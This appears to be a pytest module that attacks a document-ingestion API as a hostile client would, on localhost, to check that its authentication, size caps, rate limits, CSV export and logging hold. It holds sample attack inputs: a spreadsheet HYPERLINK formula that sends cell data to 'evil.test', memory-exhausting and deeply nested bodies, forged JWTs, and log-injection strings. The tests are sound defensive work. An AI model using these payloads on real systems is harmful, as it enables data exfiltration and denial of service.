"""The API attacked as a hostile client would (issue 23), on 127.0.0.1 against the real app
served by uvicorn, real Postgres (key store, accepted log, warehouse) and Redis (rate limits):
channels bound to keys, bounded work per request (memory and event-loop latency measured while
the attack runs, asserted against the stated caps), fixed metric labels, index lookups, and the
smaller classes of break (500s on odd input, leaking error bodies, open docs, CSV formulas,
altered text, unvalidated ranges, raw control characters in the log, unmetered failed logins).
"""

from __future__ import annotations

import itertools
import json
import re
import shutil
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from datetime import UTC, date, datetime
from pathlib import Path

import httpx
import polars as pl
import psutil
import psycopg2
import pytest
import redis
import schemathesis

# imported now, not lazily inside a test's deep stack: CPython 3.11.7 can fail to compile a
# module there ("AST constructor recursion depth mismatch", seen once in CI)
import schemathesis.generation.jsonschema.strategy
import schemathesis.specs.openapi.adapter.parameters
from hypothesis import HealthCheck, given, settings
from hypothesis.errors import Unsatisfiable
from schemathesis import GenerationMode
from schemathesis.specs.openapi.checks import (
    content_type_conformance,
    response_schema_conformance,
    status_code_conformance,
)

from nlp_assets.api.keys import FileKeyStore, PostgresKeyStore
from nlp_assets.kernels.ingest import doc_id_for, read_landing_day
from nlp_assets.kernels.predict import PREDICTIONS_SCHEMA
from nlp_assets.lake import Lake
from nlp_assets.warehouse import ensure_schema
from nlp_assets_tests.api_server import AUDIENCE, ISSUER, Signer, api_server
from nlp_assets_tests.postgres_db import temp_database, url_for

pytestmark = [pytest.mark.api, pytest.mark.postgres, pytest.mark.redis]

REDIS_URL = "redis://127.0.0.1:6379/0"
DAY = "2026-11-18"
MIB = 1024 * 1024
#: What an anonymous or refused request may add to the server's memory (issue 23, break 2).
ANONYMOUS_MEMORY_CAP = 16 * MIB
#: /healthz p99 while a submitter attacks (issue 23, break 3: the liveness probe must hold).
HEALTHZ_P99_CAP_S = 0.100
FAILED_AUTH_BURST = 150
#: Generated examples per operation, each sent with 4 credentials: CI-sized.
SCHEMA_EXAMPLES = 10


class Peak:
    """The peak resident memory of a process, sampled in a thread while a block runs."""

    def __init__(self, pid: int):
        self.process = psutil.Process(pid)
        self.baseline = self.peak = self.process.memory_info().rss
        self._stop = threading.Event()

    def _sample(self) -> None:
        while not self._stop.is_set():
            self.peak = max(self.peak, self.process.memory_info().rss)
            time.sleep(0.005)

    def __enter__(self) -> Peak:
        self._thread = threading.Thread(target=self._sample, daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *_exc) -> None:
        self._stop.set()
        self._thread.join()
        self.peak = max(self.peak, self.process.memory_info().rss)

    @property
    def growth(self) -> int:
        return self.peak - self.baseline


def _env(root: Path, signer: Signer, prefix: str) -> dict[str, str]:
    return {
        "NLP_DATA_DIR": str(root),
        "NLP_LAKE_DIR": str(root / "lake"),
        "NLP_LANDING_DIR": str(root / "landing"),
        "NLP_REPORTS_DIR": str(root / "reports"),
        "HF_HUB_OFFLINE": "1",
        "REDIS_URL": REDIS_URL,
        "NLP_API_REDIS_PREFIX": prefix,
        "NLP_API_KEY_CACHE_SECONDS": "0",
        "NLP_API_RATE_PER_SECOND": "200",
        "NLP_API_RATE_BURST": "400",
        "NLP_API_AUTH_FAILURE_RATE_PER_SECOND": "0.05",
        "NLP_API_AUTH_FAILURE_BURST": str(FAILED_AUTH_BURST),
        "NLP_JWT_ISSUER": ISSUER,
        "NLP_JWT_AUDIENCE": AUDIENCE,
        "NLP_JWT_PUBLIC_KEY": signer.public_pem,
    }


def _seed_lake(root: Path) -> None:
    """One prediction row of DAY whose caller-controlled `source` is a spreadsheet formula."""
    row = {
        "doc_id": "c5c5c5c5c5c5c5c5",
        "ingest_date": date.fromisoformat(DAY),
        "source": '=HYPERLINK("http://evil.test/?"&A1,"click")',
        "lang": "en",
        "is_duplicate": False,
        "sentiment_label": "positive",
        "sentiment_score": 0.5,
        "sentiment_model": "m",
        "sentiment_model_version": "1",
        "entities": [{"text": "@SUM(1+1)", "label": "ORG", "start_char": 0, "end_char": 9}],
        "ner_model": "spacy",
        "ner_model_version": "3.8.0",
        "skipped_reason": None,
    }
    Lake(root / "lake").write("predictions", DAY, pl.DataFrame([row], schema=PREDICTIONS_SCHEMA))


@pytest.fixture(scope="module")
def signer() -> Signer:
    return Signer()


@pytest.fixture(scope="module")
def prefix() -> Iterator[str]:
    prefix = f"nlp-hostile-{uuid.uuid4().hex[:8]}"
    yield prefix
    client = redis.Redis.from_url(REDIS_URL)
    for key in client.scan_iter(f"{prefix}:*"):
        client.delete(key)


@pytest.fixture(scope="module")
def pg(tmp_path_factory: pytest.TempPathFactory, signer: Signer, prefix: str):
    """The API with Postgres (keys, accepted log, warehouse) and Redis, default body caps."""
    root = tmp_path_factory.mktemp("hostile-pg")
    _seed_lake(root)
    with temp_database("nlp_hostile") as database:
        database_url = url_for(database)
        conn = psycopg2.connect(database_url)
        try:
            ensure_schema(conn, "nlp")  # the warehouse views, empty: results come from the lake
        finally:
            conn.close()
        store = PostgresKeyStore(database_url)
        keys = {role: store.create(f"hostile {role}", role)[1] for role in ROLES}
        env = {**_env(root, signer, prefix), "DATABASE_URL": database_url}
        with api_server(env, root / "api.log") as url:
            yield {"url": url, "keys": keys, "root": root, "store": store, "log": root / "api.log"}


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory, signer: Signer, prefix: str):
    """The API without a database: keys in the file store, accepted documents in landing."""
    root = tmp_path_factory.mktemp("hostile-files")
    env = _env(root, signer, prefix + "-f")
    store = FileKeyStore(root / "api" / "keys.json")
    keys = {role: store.create(f"file {role}", role)[1] for role in ROLES}
    with api_server(env, root / "api.log") as url:
        yield {"url": url, "keys": keys, "root": root, "store": store}


ROLES = ["reader", "submitter", "operator"]


def _auth(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def _post(server, body, token: str, content_type: str = "application/json") -> httpx.Response:
    content = body if isinstance(body, bytes) else json.dumps(body).encode()
    headers = {**_auth(token), "Content-Type": content_type}
    return httpx.post(server["url"] + "/v1/documents", content=content, headers=headers, timeout=60)


# 1. channels bound to keys -----------------------------------------------------------------
def test_a_submitter_cannot_write_a_channel_its_key_is_not_bound_to(pg, signer):
    hijack = {"source": "web", "id": "42", "text": "planted text"}
    response = _post(pg, hijack, pg["keys"]["submitter"])  # a key of the default channel only
    assert response.status_code == 403, response.text
    assert "channel 'web'" in response.json()["detail"]
    jwt_response = _post(pg, hijack, signer.token(["submitter"], channels=["partner"]))
    assert jwt_response.status_code == 403, jwt_response.text


def test_a_channel_bound_key_and_jwt_write_their_own_channel(pg, signer):
    _, web_token = pg["store"].create("web feed", "submitter", channels=["web"])
    by_key = _post(pg, {"source": "web", "id": "k1", "text": "from the web key"}, web_token)
    assert by_key.status_code == 202, by_key.text
    by_jwt = _post(
        pg,
        {"id": "j1", "text": "from a web JWT"},  # no source: the credential's channel
        signer.token(["submitter"], channels=["web"]),
    )
    assert by_jwt.status_code == 202, by_jwt.text
    assert by_jwt.json()["results"][0]["doc_id"] == doc_id_for("api:web", "j1", "from a web JWT")


def test_api_documents_never_take_the_doc_id_of_a_landing_channels_record(pg):
    """Record 42 of the web channel's landing file survives a web-bound API key submitting
    id 42: the API namespaces the channel it authenticated, so the two never share a doc id."""
    today = datetime.now(UTC).date()
    day_dir = pg["root"] / "landing" / today.isoformat()
    day_dir.mkdir(parents=True, exist_ok=True)
    (day_dir / "web.jsonl").write_text(json.dumps({"id": "42", "text": "genuine"}) + "\n")
    _, web_token = pg["store"].create("web feed 2", "submitter", channels=["web"])
    posted = _post(pg, {"source": "web", "id": "42", "text": "planted"}, web_token)
    assert posted.status_code == 202, posted.text
    planted_id = posted.json()["results"][0]["doc_id"]
    genuine_id = doc_id_for("web", "42", "genuine")
    assert planted_id != genuine_id
    raw = read_landing_day(pg["root"] / "landing", today)
    kept = dict(zip(raw.docs["doc_id"].to_list(), raw.docs["text"].to_list(), strict=True))
    assert kept[genuine_id] == "genuine" and kept[planted_id] == "planted"
    duplicates = raw.quarantine.filter(pl.col("reason").str.contains("duplicate"))
    assert genuine_id not in duplicates["doc_id"].to_list()


# 2. anonymous requests cost next to nothing -------------------------------------------------
@pytest.mark.parametrize("framing", ["content-length", "chunked"])
def test_an_anonymous_oversized_body_costs_next_to_nothing(pg, framing):
    body = b'{"from": "2026-11-01", "to": "2026-11-02", "pad": "' + b"a" * (24 * MIB) + b'"}'

    def chunks() -> Iterator[bytes]:
        for start in range(0, len(body), 64 * 1024):
            yield body[start : start + 64 * 1024]

    content = body if framing == "content-length" else chunks()
    with Peak(pg["url"].pid) as peak:
        try:
            response = httpx.post(pg["url"] + "/v1/backfills", content=content, timeout=60)
            status = response.status_code
        except httpx.TransportError:  # refused and closed before the whole body was sent
            status = 413
    print(
        f"\nanonymous 24 MiB body ({framing}): {status}, "
        f"server peak RSS +{peak.growth / MIB:.1f} MiB"
    )
    assert status in (401, 413)
    assert peak.growth < ANONYMOUS_MEMORY_CAP


def test_every_route_caps_its_body_before_parsing_it(pg):
    operator = pg["keys"]["operator"]
    big = b'{"from": "2026-11-01", "to": "2026-11-02", "pad": "' + b"a" * (2 * MIB) + b'"}'
    response = httpx.post(
        pg["url"] + "/v1/backfills",
        content=big,
        headers={**_auth(operator), "Content-Type": "application/json"},
        timeout=60,
    )
    assert response.status_code == 413, response.text
    assert "at most" in response.json()["detail"]


# 3. one submitter cannot stall everyone -----------------------------------------------------
def _hostile_bodies() -> dict[str, bytes]:
    tiny = b"[" + b",".join(b'{"id":"%d","text":"t"}' % i for i in range(300_000)) + b"]"
    fat = json.dumps([{"id": str(i), "text": "x" * 8000} for i in range(1000)]).encode()
    assert 7 * MIB < len(tiny) < 8 * MIB and len(fat) < 8 * MIB
    return {"300k tiny records": tiny, "1000 records of 8 KB": fat}


#: A hostile client's requests, by case: (credential role or None, method, path, body,
#: content type, the statuses it may get). Each case runs in a loop while /healthz is probed.
def _hostile_cases() -> dict[str, tuple[str | None, str, str, bytes, str, set[int]]]:
    bodies = _hostile_bodies()
    deep = b"[" * 100_000 + b"]" * 100_000
    huge_int = b'[{"id": ' + b"9" * 5000 + b', "text": "t"}]'
    ndjson = b"\n".join(b'{"id": "%d", "text": "line"}' % i for i in range(5000))
    anonymous = b'{"from": "2026-11-01", "to": "2026-11-02", "pad": "' + b"a" * 8 * MIB + b'"}'
    return {
        "submitter: 8 MiB array of 300k tiny records": (
            "submitter", "POST", "/v1/documents", bodies["300k tiny records"],
            "application/json", {413},
        ),
        "submitter: 8 MiB array of 1000 records of 8 KB": (
            "submitter", "POST", "/v1/documents", bodies["1000 records of 8 KB"],
            "application/json", {202},
        ),
        "submitter: 100k-deep nesting": (
            "submitter", "POST", "/v1/documents", deep, "application/json", {400},
        ),
        "submitter: a 5000-digit integer": (
            "submitter", "POST", "/v1/documents", huge_int, "application/json", {400, 422},
        ),
        "submitter: 5000 NDJSON lines": (
            "submitter", "POST", "/v1/documents", ndjson, "application/x-ndjson", {413},
        ),
        "anonymous: 8 MiB backfill body": (
            None, "POST", "/v1/backfills", anonymous, "application/json", {401},
        ),
        "forged key: 8 MiB submit": (
            "forged", "POST", "/v1/documents", bodies["1000 records of 8 KB"],
            "application/json", {401, 429},
        ),
        "operator: 8 MiB backfill body": (
            "operator", "POST", "/v1/backfills", anonymous, "application/json", {413},
        ),
    }  # fmt: skip


HOSTILE_CASES = list(_hostile_cases())
#: What one attacker's requests may add to the server's peak memory: an authenticated submitter
#: is bounded by the body and record caps, anyone else by next to nothing.
MEMORY_CAPS = {"submitter": 192 * MIB, None: ANONYMOUS_MEMORY_CAP, "forged": ANONYMOUS_MEMORY_CAP}


@pytest.mark.parametrize("case", HOSTILE_CASES)
def test_a_hostile_client_leaves_healthz_p99_under_100ms_and_memory_within_its_cap(pg, case):
    """One attacker sends its request in a loop; /healthz (the liveness probe) is probed
    meanwhile. Measured: /healthz p99 and the server's peak memory, against the stated caps."""
    role, method, path, body, content_type, expected = _hostile_cases()[case]
    token = {None: None, "forged": "nlp_0123456789ab_" + "f" * 43}.get(role) or (
        pg["keys"][role] if role else None
    )
    headers = {"Content-Type": content_type, **(_auth(token) if token else {})}
    stop = threading.Event()
    statuses: list[int] = []

    def attack() -> None:
        # from an address of its own (127.0.0.2): its failed authentications empty only its
        # own bucket, not the one of the other tests' 127.0.0.1
        transport = httpx.HTTPTransport(local_address="127.0.0.2")
        with httpx.Client(timeout=120, transport=transport) as client:
            while not stop.is_set():
                try:
                    response = client.request(
                        method, pg["url"] + path, content=body, headers=headers
                    )
                    statuses.append(response.status_code)
                except httpx.TransportError:  # refused and closed before the body was sent
                    statuses.append(0)

    def probe_p99(client: httpx.Client, enough: Callable[[list[float]], bool]) -> float:
        latencies: list[float] = []
        while not enough(latencies):
            started = time.perf_counter()
            assert client.get(pg["url"] + "/healthz").status_code == 200
            latencies.append(time.perf_counter() - started)
            time.sleep(0.01)
        latencies.sort()
        return latencies[int(len(latencies) * 0.99) - 1]

    attacker = threading.Thread(target=attack, daemon=True)
    with httpx.Client(timeout=30) as probe, Peak(pg["url"].pid) as peak:
        probe.get(pg["url"] + "/healthz")
        # the same probe with no attacker first: what this machine's load (the other test
        # worker, say) adds by itself, so the cap below is what the attack adds
        quiet = probe_p99(probe, lambda lat: len(lat) >= 100)
        attacker.start()
        p99 = probe_p99(probe, lambda lat: len(statuses) >= 4 and len(lat) >= 150)
        stop.set()
        attacker.join()
    cap = MEMORY_CAPS.get(role, MEMORY_CAPS["submitter"])
    print(
        f"\n{case}: {len(statuses)} requests, statuses {sorted(set(statuses))}; /healthz p99 "
        f"{p99 * 1000:.1f} ms under attack, {quiet * 1000:.1f} ms without (cap: the attack adds "
        f"< {HEALTHZ_P99_CAP_S * 1000:.0f}); server peak RSS +{peak.growth / MIB:.1f} MiB "
        f"(cap {cap / MIB:.0f})"
    )
    assert set(statuses) - {0} <= expected
    assert p99 - quiet < HEALTHZ_P99_CAP_S, f"p99 {p99:.3f} s under attack, {quiet:.3f} s without"
    assert peak.growth < cap


def test_the_record_cap_is_413_with_the_cap_named(pg):
    tiny = _hostile_bodies()["300k tiny records"]
    response = _post(pg, tiny, pg["keys"]["submitter"])
    assert response.status_code == 413
    assert "at most 1000" in response.json()["detail"]


# 4. metric labels come from a fixed set ------------------------------------------------------
def _rejection_series(pg) -> set[str]:
    text = httpx.get(pg["url"] + "/metrics", headers=_auth(pg["keys"]["reader"])).text
    return set(re.findall(r'nlp_api_rejections_total\{reason="([^"]*)"\}', text))


def test_callers_cannot_write_prometheus_label_values(pg):
    records = [{"id": f"m{i}", "text": "t", "timestamp": f"never-{i}"} for i in range(40)]
    records += [{"id": f"n{i}", "text": 5, f"field-{i}": 1} for i in range(40)]
    response = _post(pg, records, pg["keys"]["submitter"])
    assert response.status_code == 422, response.text
    labels = _rejection_series(pg)
    print(f"\nrejection label values: {sorted(labels)}")
    assert not [label for label in labels if "never" in label or "field-" in label]
    assert len(labels) <= 20


# 5. a document lookup is an index lookup ----------------------------------------------------
def test_document_status_without_a_database_comes_from_the_index_not_the_landing_parts(files):
    text = f"indexed {uuid.uuid4().hex}"
    posted = _post(files, {"id": "ix1", "text": text}, files["keys"]["submitter"])
    assert posted.status_code == 202, posted.text
    receipt = posted.json()["results"][0]
    # the landing sensor may move or compact parts: the status must not depend on reading them
    part = files["root"] / "landing" / receipt["destination"].removeprefix("landing:")
    shutil.move(part, files["root"] / "moved.jsonl")
    response = httpx.get(
        f"{files['url']}/v1/documents/{receipt['doc_id']}", headers=_auth(files["keys"]["reader"])
    )
    assert response.status_code == 200, response.text
    assert response.json()["status"] == "accepted"
    assert response.json()["destination"] == receipt["destination"]


# 6. each environment has its own file key store ---------------------------------------------
def test_a_key_created_for_staging_is_refused_by_the_dev_key_store(monkeypatch, tmp_path):
    from nlp_assets.api.config import ApiSettings
    from nlp_assets.api.keys import key_store

    monkeypatch.setenv("NLP_DATA_DIR", str(tmp_path))
    monkeypatch.delenv("DATABASE_URL", raising=False)
    monkeypatch.delenv("NLP_API_KEYS_FILE", raising=False)
    monkeypatch.setenv("NLP_ENV", "staging")
    _, token = key_store(ApiSettings.from_env()).create("staging key", "operator")
    monkeypatch.setenv("NLP_ENV", "dev")
    assert key_store(ApiSettings.from_env()).verify(token) is None


# 7. JWT issuer and audience are required ------------------------------------------------------
@pytest.mark.parametrize("missing", ["jwt_issuer", "jwt_audience"])
def test_the_api_refuses_to_start_with_jwt_keys_but_no_issuer_or_audience(missing, tmp_path):
    from dataclasses import replace

    from nlp_assets.api.app import create_app
    from nlp_assets.api.config import ApiSettings

    config = replace(
        ApiSettings(keys_file=str(tmp_path / "keys.json"), landing_dir=str(tmp_path)),
        jwt_public_key=Signer().public_pem,
        jwt_issuer=ISSUER,
        jwt_audience=AUDIENCE,
    )
    with pytest.raises(ValueError, match="NLP_JWT_ISSUER and NLP_JWT_AUDIENCE"):
        create_app(replace(config, **{missing: None}))


# 8. the smaller breaks --------------------------------------------------------------------------
def test_out_of_range_and_odd_input_is_a_4xx_never_a_500(pg, signer):
    reader, operator = pg["keys"]["reader"], pg["keys"]["operator"]
    url = pg["url"]
    huge = "9" * 40
    requests = {
        "huge limit": ("GET", f"/v1/days/{DAY}/predictions?limit={huge}", reader, None),
        "huge offset": ("GET", f"/v1/days/{DAY}/predictions?offset={huge}", reader, None),
        "huge offset csv": ("GET", f"/v1/days/{DAY}/predictions?offset={huge}", reader, "csv"),
        "NUL in a filter": ("GET", f"/v1/days/{DAY}/predictions?source=a%00b", reader, None),
        "NUL in a label": ("GET", f"/v1/days/{DAY}/predictions?label=%00", reader, None),
        "NUL in a doc id": ("GET", "/v1/documents/ab%00cd", reader, None),
        "NUL in a day": ("GET", "/v1/days/2026-11-1%00/report", reader, None),
        "NUL in a run id": ("GET", "/v1/runs/ab%00cd", operator, None),
        "roles of lists": ("GET", "/readyz", signer.token([["reader"]]), None),  # type: ignore[list-item]
        "roles as object": ("GET", "/readyz", signer.token({"reader": 1}), None),  # type: ignore[arg-type]
        "sub as number": ("GET", "/readyz", signer.token(["reader"], sub=7), None),  # type: ignore[arg-type]
        "channels as string": ("GET", "/readyz", signer.token(["reader"], channels=5), None),
        "nlp_ key with NUL": ("GET", "/readyz", "nlp_0123456789ab_\x00x", None),
    }
    server_errors = {}
    for name, (method, path, token, accept) in requests.items():
        headers = {"Authorization": f"Bearer {token}"}
        if accept == "csv":
            headers["Accept"] = "text/csv"
        try:
            response = httpx.request(method, url + path, headers=headers, timeout=30)
        except httpx.LocalProtocolError:  # the client itself refuses the header: not our break
            continue
        if response.status_code >= 500:
            server_errors[name] = (response.status_code, response.text[:200])
    assert server_errors == {}
    backfill = httpx.post(
        url + "/v1/backfills",
        json={"from": "2026-11-01", "to": "2026-11-02", "x": 10**40},
        headers=_auth(operator),
    )
    assert backfill.status_code == 422, backfill.text


def test_anonymous_error_bodies_reveal_no_configuration_or_library_internals(pg, signer):
    url = pg["url"]
    forged = [
        "not-a-token",
        "a.b.c",
        Signer().token(["operator"]),
        signer.token(["operator"], audience="someone-else"),
        signer.token(["operator"], issuer="https://evil.test/"),
        signer.token(["operator"], expires_in=-600),
        "nlp_0123456789ab_" + "x" * 40,
    ]
    bodies = []
    for token in forged:
        response = httpx.get(url + "/readyz", headers=_auth(token))
        assert response.status_code == 401
        bodies.append(response.text)
    anonymous_backfill = httpx.post(url + "/v1/backfills", json={"from": "nope"})
    assert anonymous_backfill.status_code == 401, anonymous_backfill.text
    bodies.append(anonymous_backfill.text)
    leaked = [ISSUER, AUDIENCE, "login.example", "Signature", "segments", "configured", "pydantic"]
    for body in bodies:
        assert not [word for word in leaked if word.lower() in body.lower()], body


def test_docs_and_openapi_need_a_credential(pg):
    for path in ("/docs", "/openapi.json"):
        assert httpx.get(pg["url"] + path).status_code == 401, path
        assert httpx.get(pg["url"] + path, headers=_auth(pg["keys"]["reader"])).status_code == 200


def test_csv_export_neutralises_formulas_in_caller_controlled_cells(pg):
    response = httpx.get(
        f"{pg['url']}/v1/days/{DAY}/predictions",
        headers={**_auth(pg["keys"]["reader"]), "Accept": "text/csv"},
    )
    assert response.status_code == 200
    cells = pl.read_csv(response.content, infer_schema=False).row(0, named=True)
    assert cells["source"].startswith("'=HYPERLINK")
    formula_starts = ("=", "+", "-", "@", "\t", "\r")
    assert not [v for v in cells.values() if isinstance(v, str) and v.startswith(formula_starts)]


def test_text_with_lone_surrogates_is_refused_not_altered(pg):
    body = b'[{"id": "s1", "text": "broken \\ud800 half"}, {"id": "s2", "text": "fine"}]'
    response = _post(pg, body, pg["keys"]["submitter"])
    assert response.status_code == 202, response.text
    first, second = response.json()["results"]
    assert first["status"] == "rejected" and "surrogate" in first["reason"]
    assert second["status"] == "accepted"


def test_a_backfill_range_is_refused_before_any_work_proportional_to_it(pg):
    def backfill(start: str, end: str) -> httpx.Response:
        return httpx.post(
            pg["url"] + "/v1/backfills",
            json={"from": start, "to": end},
            headers=_auth(pg["keys"]["operator"]),
            timeout=60,
        )

    # a refused range of two years first: the route's first call imports what it needs, which
    # is not work proportional to the range; the huge range must then cost next to nothing
    assert backfill("2025-01-01", "2026-12-31").status_code == 422
    with Peak(pg["url"].pid) as peak:
        response = backfill("0001-01-01", "9999-12-31")
    print(f"\nbackfill of 3,652,058 days: {response.status_code}, +{peak.growth / MIB:.1f} MiB")
    assert response.status_code == 422
    assert "at most 366" in response.json()["detail"]
    assert peak.growth < ANONYMOUS_MEMORY_CAP


def test_control_characters_from_a_request_never_reach_the_log_raw(pg, signer):
    httpx.get(
        pg["url"] + "/v1/documents/x%0aFORGED-PATH%20200", headers=_auth(pg["keys"]["reader"])
    )
    httpx.get(pg["url"] + "/readyz", headers=_auth(signer.token(["reader"], sub="eve\nFORGED-SUB")))
    time.sleep(0.2)
    lines = pg["log"].read_text(errors="replace").splitlines()
    assert not [line for line in lines if line.startswith(("FORGED", "\x1b"))]
    assert any("\\nFORGED-PATH" in line or "\\x0aFORGED-PATH" in line for line in lines)


# schemathesis against the live API, under every role and with no credential ----------------
@schemathesis.check
def never_a_500(ctx, response, case) -> None:
    """A 503 names a dependency that is down (Dagster is not configured here: documented);
    any other 5xx is a break."""
    if response.status_code >= 500 and response.status_code != 503:
        raise AssertionError(f"{response.status_code}: {response.text[:300]}")


SCHEMA_CHECKS = [
    never_a_500,
    status_code_conformance,
    content_type_conformance,
    response_schema_conformance,
]


def test_generated_requests_get_documented_answers_never_a_500(pg):
    """schemathesis generates requests (valid ones, and ones that break the schema) for every
    operation of the live /openapi.json; each is sent with no credential and as each role, and
    must get a documented status code (never a 500) with a body that conforms to the schema.
    (Driven by hand: schemathesis' pytest plugin does not run under pytest 9.)"""
    live = schemathesis.openapi.from_url(
        pg["url"] + "/openapi.json", headers=_auth(pg["keys"]["reader"]), timeout=30
    )
    credentials = {"none": {}, **{role: _auth(pg["keys"][role]) for role in ROLES}}
    failures: dict[str, str] = {}
    operations = [result.ok() for result in live.get_all_operations()]
    for operation, mode in itertools.product(operations, GenerationMode):

        @given(case=operation.as_strategy(generation_mode=mode))
        @settings(
            max_examples=SCHEMA_EXAMPLES,
            deadline=None,
            derandomize=True,
            database=None,
            suppress_health_check=list(HealthCheck),
        )
        def each(case) -> None:
            for headers in credentials.values():
                case.call_and_validate(headers=headers, checks=SCHEMA_CHECKS, timeout=60)

        try:
            each()
        except Unsatisfiable:  # nothing to break (GET /healthz takes no input)
            continue
        except Exception as error:
            failures[f"{operation.label} ({mode})"] = str(error)[:2000]
    print(
        f"\nschemathesis: {len(operations)} operations x 2 modes x {SCHEMA_EXAMPLES} examples "
        "x 4 credentials"
    )
    assert len(operations) >= 10
    assert failures == {}


def test_failed_authentications_are_rate_limited_per_client(pg):
    """Last in this module: it empties 127.0.0.1's bucket of failed authentications."""
    statuses = []
    with httpx.Client(timeout=30) as client:
        for i in range(FAILED_AUTH_BURST + 50):
            token = f"nlp_{i:012d}_{'y' * 40}"
            statuses.append(client.get(pg["url"] + "/readyz", headers=_auth(token)).status_code)
    assert set(statuses) == {401, 429}, sorted(set(statuses))
    assert statuses.count(401) <= FAILED_AUTH_BURST + 10
    refused = httpx.get(pg["url"] + "/readyz", headers=_auth("nlp_000000000000_zz"))
    assert refused.status_code == 429 and int(refused.headers["retry-after"]) >= 1
    # a valid credential from the same client is not locked out
    assert httpx.get(pg["url"] + "/readyz", headers=_auth(pg["keys"]["reader"])).status_code == 200
